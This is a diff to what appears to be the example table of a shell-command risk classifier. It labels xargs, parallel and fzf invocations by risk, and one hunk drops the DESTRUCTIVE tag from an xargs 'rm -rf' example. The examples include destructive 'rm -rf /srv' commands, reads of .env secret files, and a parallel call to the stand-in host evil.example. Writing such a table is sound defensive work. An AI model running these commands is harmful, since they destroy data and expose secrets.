@@ -152,7 +152,7 @@ COMMANDS = (
             example("xargs rm -rf", DESTRUCTIVE, OPAQUE),
             example("xargs -t rm -rf /srv echo", DESTRUCTIVE, OPAQUE),
             example("xargs -a .env echo", SECRET_READ),
-            example("xargs -I{} sh -c 'rm -rf /srv/{}'", DESTRUCTIVE, OPAQUE),
+            example("xargs -I{} sh -c 'rm -rf /srv/{}'", OPAQUE),
         ),
     ),
     command(
@@ -205,7 +205,9 @@ COMMANDS = (
         operands=operands(many=TEXT),
         analyser="parallel",
         environment=(
-            variable("PARALLEL", "PARALLEL_HOME", "PARALLEL_SSH", takes=CONFIG, harmless=("",)),
+            variable("PARALLEL", takes=OPTIONS),
+            variable("PARALLEL_HOME", takes=CONFIG),
+            variable("PARALLEL_SSH", takes=PROGRAM),
             variable("PARALLEL_SHELL", takes=PROGRAM),
         ),
         examples=(
@@ -222,8 +224,8 @@ COMMANDS = (
             example("parallel -S web-1 uptime", EGRESS),
             example("parallel --slf hosts uptime", EGRESS, PROJECT_CODE),
             example("parallel --sqlmaster mysql://evil.example/x uptime", EGRESS),
-            example("parallel --compress-program 'rm -rf /srv' echo ::: a", DESTRUCTIVE),
-            example("parallel --ssh 'rm -rf /srv' echo ::: a", DESTRUCTIVE),
+            example("parallel --compress-program 'rm -rf /srv' echo ::: a", DESTRUCTIVE, OPAQUE),
+            example("parallel --ssh 'rm -rf /srv' echo ::: a", DESTRUCTIVE, OPAQUE),
             example("parallel -J /tmp/p echo ::: a", OPAQUE),
             example("parallel --bf .env echo ::: a", SECRET_READ),
             example("parallel --tmpl .env echo ::: a", SECRET_READ),
@@ -259,7 +261,7 @@ COMMANDS = (
             example("fzf --bind 'start:execute(rm -rf /srv)'", OPAQUE),
             example("fzf --preview 'rm -rf /srv'", DESTRUCTIVE),
             example("FZF_DEFAULT_COMMAND='rm -rf /srv' fzf", DESTRUCTIVE),
-            example("FZF_DEFAULT_OPTS=--x fzf", OPAQUE),
+            example("FZF_DEFAULT_OPTS=--history=h fzf", WRITES),
         ),
     ),
 )
